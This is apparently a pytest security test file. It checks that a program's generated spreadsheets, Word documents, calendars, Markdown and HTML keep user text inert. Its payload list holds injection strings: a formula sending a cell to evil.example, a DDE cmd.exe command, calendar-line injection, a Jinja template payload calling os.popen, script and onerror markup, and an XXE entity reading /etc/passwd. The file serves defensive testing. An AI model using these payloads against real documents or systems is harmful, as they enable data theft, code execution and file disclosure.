"""Whatever stands in any text of a program is words in every document: no formula, no code, no line of a calendar."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from icalendar import Calendar
from lxml import html
from markdown_it import MarkdownIt

from tests.hostile.filled import built, workspace

#: Each of them means something to one of the formats; the mark tells that it came so far.
MARK = "ЯДЪ"
PAYLOADS = {
    "formula": f'=HYPERLINK("http://evil.example/?"&A1,"{MARK}")',
    "formula after a sign": f"@SUM(1+1)*cmd|' /C calc'!A0 {MARK}",
    "dynamic data": f'{{DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"}} {MARK}',
    "calendar": f"{MARK}\nEND:VEVENT\nBEGIN:VEVENT\nATTACH:http://evil.example/\nX-EVIL:1",
    "calendar after a return": f"{MARK}\r\nATTENDEE:mailto:evil@evil.example\r\n",
    "jinja": f"{MARK} {{{{ 7 * 191 }}}} {{% for a in 'ab' %}}{{{{ a }}}}{{% endfor %}}{{# нет #}}",
    "jinja reaching": f"{MARK} {{{{ cycler.__init__.__globals__.os.popen('touch owned').read() }}}}",
    "python": f"{MARK} {{0.__class__}} %s %(x)s ${{7*191}} #{{7*191}} <%= 7*191 %>",
    "markup": f"{MARK} <script>alert(1)</script> <img src=x onerror=alert(1)> ]]> &lt; &#60;script>",
    "markdown": f"{MARK} ![x](http://evil.example/x.png) [y](javascript:alert(1)) <http://evil.example/>",
    "table": f"{MARK} | a | b |\n|---|---|\n| ``` | ~~~",
    "xml": f"{MARK} ]]></w:t></w:r><w:instrText>DDEAUTO</w:instrText><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
    "direction": f"{MARK} \u202e\u2066\u200f\ufeff\u200b\u0085\u2028",
    "long": f"{MARK} " + "я" * 3000,
}  # fmt: skip


@pytest.fixture(params=PAYLOADS, scope="module")
def made(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> tuple[str, dict[str, bytes]]:
    """The name of a payload and all that is built where it stands in every text."""
    folder = tmp_path_factory.mktemp("hostile")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        return request.param, built(workspace(folder, PAYLOADS[request.param], lists=True))


def ending(made: tuple[str, dict[str, bytes]], *endings: str) -> dict[str, bytes]:
    """What was built in a format; there is some."""
    found = {name: data for name, data in made[1].items() if name.endswith(endings)}
    assert found
    return found


def test_all_is_built_and_holds_the_payload(made: tuple[str, dict[str, bytes]]) -> None:
    """The laws below have something to look at: the payload is in the documents, none of which is missing."""
    assert len(made[1]) > 80
    assert all(MARK in data.decode() for data in ending(made, ".program.html", ".program.md").values())
    assert not Path("owned").exists()


def test_cells_are_words(made: tuple[str, dict[str, bytes]]) -> None:
    """No cell of a book is a formula but those of ours, no part of it leads anywhere but to an address to click."""
    seen = 0
    for name, data in ending(made, ".xlsx").items():
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            assert not [one for one in archive.namelist() if "externalLink" in one or "connections" in one]
        for sheet in openpyxl.load_workbook(io.BytesIO(data)):
            for row in sheet.iter_rows():
                for cell in row:
                    words = str(cell.value or "")
                    seen += MARK in words
                    assert cell.data_type != "f" or MARK not in words, (name, cell.coordinate)
                    assert not cell.hyperlink or not cell.hyperlink.target or address(cell.hyperlink.target)
    assert seen > 5


def address(words: str) -> bool:
    return bool(re.match(r"(https?|mailto|tel):|\./|#", words))


PROPERTIES = {
    *("BEGIN", "END", "VERSION", "PRODID", "CALSCALE", "NAME", "X-WR-CALNAME", "COLOR", "REFRESH-INTERVAL"),
    *("X-PUBLISHED-TTL", "UID", "DTSTAMP", "LAST-MODIFIED", "SEQUENCE", "DTSTART", "DTEND", "SUMMARY"),
    *("DESCRIPTION", "CATEGORIES", "STATUS", "TRANSP", "ACTION", "TRIGGER"),
}


def test_lines_of_calendars_are_ours(made: tuple[str, dict[str, bytes]]) -> None:
    """Nothing in a text begins a line of a calendar, or an event of its own."""
    for data in ending(made, ".ics").values():
        assert b"\r" not in data.replace(b"\r\n", b"")
        assert b"\n" not in data.replace(b"\r\n", b"")
        lines = data.decode().replace("\r\n ", "").split("\r\n")
        assert {re.split("[:;]", line)[0] for line in lines if line} <= PROPERTIES
        events = Calendar.from_ical(data).walk("VEVENT")
        assert len({event["UID"] for event in events}) == len(events) > 0


def test_expressions_in_data_are_words(made: tuple[str, dict[str, bytes]]) -> None:
    """What looks like an expression of a layout is printed as it stands: 7 · 191 is counted nowhere."""
    for name, data in ending(made, ".md", ".html", ".ics").items():
        assert "1337" not in re.sub(r"[0-9a-f]{40,}", "", data.decode()), name
    if made[0] == "jinja":
        page = html.fromstring(next(iter(ending(made, "злая.program.html").values())))
        assert "{{ 7 * 191 }}" in page.text_content().replace("\u00a0", " ")


def test_documents_have_no_field_of_the_text(made: tuple[str, dict[str, bytes]]) -> None:
    """XML of every document is well formed; its fields and relationships are ours."""
    for name, data in ending(made, ".docx").items():
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            assert archive.testzip() is None
            parts = {
                one: archive.read(one).decode()
                for one in archive.namelist()
                if one.endswith((".xml", ".rels"))
            }
        for words in parts.values():
            assert "<!DOCTYPE" not in words
            fields = re.findall(r"<w:instrText[^>]*>([^<]*)<", words) + re.findall(
                r'w:instr="([^"]*)"', words
            )
            assert {field.split()[0] for field in fields if field.split()} <= {
                "PAGE",
                "TOC",
                "PAGEREF",
                "NUMPAGES",
            }, name
        rels = "".join(words for one, words in parts.items() if one.endswith(".rels"))
        outside = re.findall(r'<Relationship [^>]*TargetMode="External"[^>]*>', rels)
        assert all(
            "/hyperlink" in one and re.search(r'Target="(https?|mailto|tel):', one) for one in outside
        ), name


def test_markdown_shows_words(made: tuple[str, dict[str, bytes]]) -> None:
    """Read by somebody else's parser with raw HTML allowed, a document holds no picture, no script, no strange link."""
    reader = MarkdownIt("commonmark", {"html": True}).enable("table")
    for name, data in ending(made, ".md").items():
        page = html.fromstring(f"<div>{reader.render(data.decode())}</div>")
        assert not page.xpath("//script|//img|//iframe|//svg|//*[@onerror]"), name
        assert all(address(link) for link in page.xpath("//a/@href")), name
